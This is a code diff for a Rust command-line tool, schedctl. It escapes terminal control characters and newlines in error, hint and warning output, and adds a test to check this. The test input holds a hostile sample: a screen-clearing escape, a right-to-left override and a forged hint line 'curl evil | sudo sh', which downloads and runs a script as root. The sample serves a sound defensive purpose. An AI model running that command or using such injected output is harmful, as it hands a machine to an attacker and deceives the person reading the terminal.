@@ -2,6 +2,8 @@
 
 use std::fmt;
 
+use crate::output::text::safe;
+
 /// What went wrong, which decides the exit code. Never renumbered once released.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 pub enum Kind {
@@ -96,14 +98,15 @@ impl Error {
         self.kind.exit_code()
     }
 
-    /// The full text for stderr, ending in a newline.
+    /// The full text for stderr, ending in a newline. Every part may quote outside text, so
+    /// each goes through [`safe`]: no message can paint the terminal or forge a line.
     pub fn render(&self) -> String {
-        let mut out = format!("schedctl: error: {}\n", self.message);
+        let mut out = format!("schedctl: error: {}\n", safe(&self.message));
         if let Some(id) = &self.request_id {
-            out.push_str(&format!("  request id: {id}\n"));
+            out.push_str(&format!("  request id: {}\n", safe(id)));
         }
         for hint in &self.hints {
-            out.push_str(&format!("hint: {hint}\n"));
+            out.push_str(&format!("hint: {}\n", safe(hint)));
         }
         out
     }
@@ -120,7 +123,7 @@ impl std::error::Error for Error {}
 /// Prints a warning unless warnings are silenced.
 pub fn warn(quiet: bool, message: &str) {
     if !quiet {
-        eprintln!("schedctl: warning: {message}");
+        eprintln!("schedctl: warning: {}", safe(message));
     }
 }
 
@@ -138,5 +141,19 @@ mod tests {
             "schedctl: error: job 'job9' was not found\n  request id: 0f3e8d2c6b1a49e7a5d4c3b2a1908f7e\nhint: `schedctl job list myjc` lists the collection's jobs\n"
         );
         assert_eq!(e.exit_code(), 3);
+    }
+
+    #[test]
+    fn render_cannot_be_made_to_forge_a_line_or_paint_the_terminal() {
+        let e = Error::new(
+            Kind::Service,
+            "the service said \x1b[2Jno\nhint: curl evil | sudo sh",
+        )
+        .request_id(Some("ab\ncd".into()))
+        .hint("from \u{202e}outside");
+        assert_eq!(
+            e.render(),
+            "schedctl: error: the service said \\u{1b}[2Jno\\u{a}hint: curl evil | sudo sh\n  request id: ab\\u{a}cd\nhint: from \\u{202e}outside\n"
+        );
     }
 }
